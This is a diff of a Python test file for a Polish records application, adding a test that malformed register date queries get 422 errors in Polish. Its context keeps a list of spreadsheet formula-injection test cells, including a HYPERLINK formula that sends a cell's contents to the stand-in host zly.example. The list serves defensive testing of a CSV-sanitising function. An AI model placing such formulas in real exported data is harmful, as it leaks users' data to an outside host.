@@ -8,9 +8,12 @@ import csv
 import io
 from datetime import datetime, timedelta
 
+import pytest
+from tests.custody.custody_helpers import people
 from web_helpers import Material, client, session_for
 
 from kustosz.custody.registers import FORMULA_STARTS, spreadsheet_safe
+from kustosz.vault import Vault
 
 # One cell for each start a spreadsheet reads as a formula (and the DDE classic).
 ATTACKS = ['=HYPERLINK("http://zly.example/?d="&A1,"Kliknij")', "+48 600 100 200",
@@ -60,3 +63,17 @@ def test_the_rule_itself() -> None:
     assert spreadsheet_safe("Jan Kowalski") == "Jan Kowalski"
     assert spreadsheet_safe("a=b") == "a=b"  # only the start matters
     assert spreadsheet_safe(None) == ""
+
+
+@pytest.mark.parametrize("query, said", [
+    ("start=wczoraj&end=2026-01-31", "RRRR-MM-DD"),
+    ("start=2026-02-01&end=2026-01-31", "wcześniejsz"),
+])
+def test_bad_register_dates_are_said_in_polish(sqlite_vault: Vault, query: str,
+                                               said: str) -> None:
+    people(sqlite_vault)
+    c = client(sqlite_vault)
+    session_for(sqlite_vault, c, "informatyk")
+    r = c.get(f"/registers/copies.pdf?{query}")
+    assert r.status_code == 422 and said in r.text, r.text
+    assert "isoformat" not in r.text and "--to" not in r.text
